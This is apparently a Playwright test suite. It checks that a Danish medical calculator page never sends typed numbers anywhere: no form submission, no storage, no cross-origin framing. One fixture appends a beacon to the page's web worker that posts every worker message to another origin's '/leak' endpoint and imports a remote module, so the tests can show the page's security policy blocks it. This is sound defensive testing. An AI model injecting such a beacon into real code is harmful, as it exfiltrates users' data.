"""The privacy promise tried as an attacker or an unlucky user would: no typed number leaves the page.

Each test types numbers no page would otherwise contain (LISTED, COUNT) and looks for them wherever they could
escape to: request URLs and bodies, the address bar, a second origin, the browser's storage.
"""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import expect
from servers import Server

PAGE = "klyngepakker/videokonsultationer/beregner/"
LISTED = "4817"
COUNT = "9731"
TYPED = f"4436\t{COUNT}\n0101\t2468"
SECRETS = (LISTED, COUNT, "2468")


def carries_typed_number(text: str | None) -> bool:
    return bool(text) and any(secret in text for secret in SECRETS)


class Recorder:
    """Every request a browser context makes (page, frames and workers), with its URL and body."""

    def __init__(self, context):
        self.requests: list[str] = []
        context.on(
            "request", lambda request: self.requests.append(f"{request.method} {request.url} {request.post_data or ''}")
        )

    def leaks(self) -> list[str]:
        return [request for request in self.requests if carries_typed_number(request)]


def type_and_submit(page, *, force: bool = False):
    page.get_by_label("Antal tilmeldte patienter", exact=True).fill(LISTED)
    page.get_by_label("Jeres tal (ydelseskode og antal)", exact=True).fill(TYPED)
    page.get_by_label("Antal tilmeldte patienter", exact=True).press("Enter")
    page.get_by_role("button", name="Beregn").click(force=force)  # force: a disabled button is still pressed


@pytest.fixture
def context_factory(browser):
    contexts = []

    def new_context(**options):
        context = browser.new_context(locale="da-DK", **options)
        contexts.append(context)
        return context

    yield new_context
    for context in contexts:
        context.close()


# 1. No submission, ever ------------------------------------------------------------------------------------------


def test_form_fields_have_no_name_and_beregn_starts_disabled(context_factory, base_url):
    page = context_factory(java_script_enabled=False).new_page()
    page.goto(base_url + PAGE)
    form = page.locator("form.calculator-form")
    assert form.locator("[name]").count() == 0
    expect(page.get_by_role("button", name="Beregn")).to_be_disabled()
    csp = page.locator('meta[http-equiv="Content-Security-Policy"]').get_attribute("content")
    assert "form-action 'none'" in csp


@pytest.mark.parametrize("how", ["javascript switched off", "calculator.js blocked"])
def test_enter_and_beregn_without_the_calculator_script_send_nothing(context_factory, base_url, how):
    context = context_factory(java_script_enabled=how != "javascript switched off")
    if how == "calculator.js blocked":
        context.route("**/calculator.*.js", lambda route: route.abort())  # the name carries a content hash
    recorder = Recorder(context)
    page = context.new_page()
    page.goto(base_url + PAGE)
    type_and_submit(page, force=True)
    page.wait_for_timeout(1000)  # a navigation, had one started, would have begun by now
    assert page.url == base_url + PAGE
    assert not carries_typed_number(page.url)
    assert recorder.leaks() == []
    assert page.get_by_label("Jeres tal (ydelseskode og antal)", exact=True).input_value() == TYPED  # no reload either


def test_a_script_calling_form_submit_directly_goes_nowhere(context_factory, base_url):
    context = context_factory()
    recorder = Recorder(context)
    page = context.new_page()
    page.goto(base_url + PAGE)
    page.get_by_label("Antal tilmeldte patienter", exact=True).fill(LISTED)
    page.get_by_label("Jeres tal (ydelseskode og antal)", exact=True).fill(TYPED)
    page.evaluate("document.querySelector('form.calculator-form').submit()")  # skips every event handler
    page.wait_for_timeout(1000)
    assert page.url == base_url + PAGE
    assert recorder.leaks() == []


# 2. The worker under the page's policy -------------------------------------------------------------------------


@pytest.fixture
def elsewhere(site):
    """Another origin (127.0.0.2) that must never hear from the calculator."""
    server = Server(site, host="127.0.0.2")
    yield server
    server.close()


@pytest.fixture
def tampered_site(site, elsewhere):
    """The site with a worker that tries to send every message it gets, and itself, to another origin."""
    server = Server(site)
    worker = next(site.glob("assets/calculators/worker.*.mjs")).relative_to(site).as_posix()  # a hashed name
    original = server.file(worker)
    beacon = (
        f'\nfetch("{elsewhere.url}loaded").catch(() => {{}});\n'
        f'import("{elsewhere.url}module.mjs").catch(() => {{}});\n'
        'self.addEventListener("message", ({ data }) => '
        f'fetch("{elsewhere.url}leak?" + encodeURIComponent(JSON.stringify(data)), '
        '{ method: "POST", mode: "no-cors", body: JSON.stringify(data) }).catch(() => {}));\n'
    ).encode()
    from servers import Fault

    server.faults[worker] = Fault(body=original + beacon)
    yield server
    server.close()


def test_a_fetch_inside_the_worker_never_reaches_another_origin(context_factory, tampered_site, elsewhere):
    page = context_factory().new_page()
    page.goto(tampered_site.url + PAGE)
    expect(page.get_by_role("status")).to_have_text("Klar", timeout=90_000)
    page.get_by_label("Antal tilmeldte patienter", exact=True).fill(LISTED)
    page.get_by_label("Jeres tal (ydelseskode og antal)", exact=True).fill(TYPED)
    page.get_by_role("button", name="Beregn").click()
    expect(page.get_by_role("table", name="Jeres rater pr. 1.000 patienter")).to_be_visible(timeout=30_000)
    page.wait_for_timeout(1000)
    assert elsewhere.requests == []
    # The other origin is reachable from this browser: its silence above is the policy's doing. (Chromium may ask that
    # origin for its /favicon.ico once it shows the page; that request is the browser's, not the worker's.)
    page.goto(elsewhere.url + "control")
    assert [path for path in elsewhere.requests if path != "/favicon.ico"] == ["/control"]


# 3. Nothing typed is stored ----------------------------------------------------------------------------------

STORAGE_DUMP = """async () => {
  const dump = (storage) => Object.fromEntries(Object.keys(storage).map((key) => [key, storage.getItem(key)]));
  const databases = indexedDB.databases ? (await indexedDB.databases()).map((db) => db.name) : [];
  return { local: dump(localStorage), session: dump(sessionStorage), cookie: document.cookie,
           databases, history: JSON.stringify(history.state),
           // The service worker's caches (overrides/sw.js), once it is in charge: the URLs it keeps.
           caches: await navigator.serviceWorker.ready.then(async () => (await Promise.all((await caches.keys())
             .map(async (name) => (await (await caches.open(name)).keys()).map((request) => request.url)))).flat()) };
}"""


def test_nothing_typed_is_stored_and_a_reload_forgets_it(context_factory, base_url):
    context = context_factory()
    page = context.new_page()
    page.goto(base_url + PAGE)
    expect(page.get_by_role("status")).to_have_text("Klar", timeout=90_000)
    type_and_submit(page)
    expect(page.get_by_role("table", name="Jeres rater pr. 1.000 patienter")).to_be_visible(timeout=30_000)
    stored = page.evaluate(STORAGE_DUMP)
    assert not carries_typed_number(repr(stored)), stored
    assert stored["cookie"] == "" and context.cookies() == []
    assert stored["databases"] == []
    # Only the site's own files, fetched with GET (no query: nothing typed can be in their URLs).
    assert stored["caches"] and all(url.startswith(base_url) and "?" not in url for url in stored["caches"])
    # What the theme keeps are its own settings, each under a key starting "__" (see the privacy page).
    for key in [*stored["local"], *stored["session"]]:
        assert re.search(r"\.__\w+$", key), key
    page.reload()
    assert page.get_by_label("Antal tilmeldte patienter", exact=True).input_value() == ""
    assert page.get_by_label("Jeres tal (ydelseskode og antal)", exact=True).input_value() == ""


def test_privacy_page_says_what_the_tests_above_check(context_factory, base_url):
    page = context_factory().new_page()
    page.goto(base_url + "privatliv/")
    text = " ".join(page.locator("article").inner_text().split())
    for promise in (
        "sender siden intet af det, I skriver, nogen steder hen",  # tests of points 1 and 2
        "Formularen kan ikke sendes",  # test_enter_and_beregn_…, test_a_script_calling_form_submit_…
        "Beregneren gemmer ikke jeres tal",  # test_nothing_typed_is_stored_…
        "Genindlæser I siden, er felterne tomme",
        "Sitet sætter ingen cookies",
        "virker beregneren ikke inde i et andet site",  # test_framed_by_another_origin_…
    ):
        assert promise in text, promise
    assert "sessionStorage" not in text and "gemmes i fanen" not in text


# 4. No framing by other sites --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "sandbox",
    # A sandboxed frame gives the page an opaque origin, where no module script loads at all: a classic script says
    # it then (overrides/assets/opaque_origin.js); before it, the page read »indlæses …« for ever.
    ["", 'sandbox="allow-scripts"', 'sandbox="allow-scripts allow-same-origin"'],
)
def test_framed_by_another_origin_the_calculator_refuses_to_run(
    context_factory, base_url, elsewhere, tmp_path, sandbox
):
    from servers import Fault

    elsewhere.faults["frame.html"] = Fault(
        body=(
            f'<!doctype html><html lang="da"><title>Fremmed side</title>'
            f'<iframe {sandbox} src="{base_url}{PAGE}" width="900" height="900"></iframe></html>'
        ).encode()
    )
    context = context_factory()
    recorder = Recorder(context)
    page = context.new_page()
    page.goto(elsewhere.url + "frame.html")
    frame = page.frame_locator("iframe")
    expect(frame.get_by_role("alert")).to_contain_text("virker kun, når siden er åbnet direkte", timeout=30_000)
    expect(frame.locator("form.calculator-form")).to_be_hidden()
    expect(frame.get_by_role("status")).to_have_text("Beregneren er slået fra her")
    page.wait_for_timeout(1000)
    assert not [request for request in recorder.requests if "/_pyodide/" in request], "worker was started"
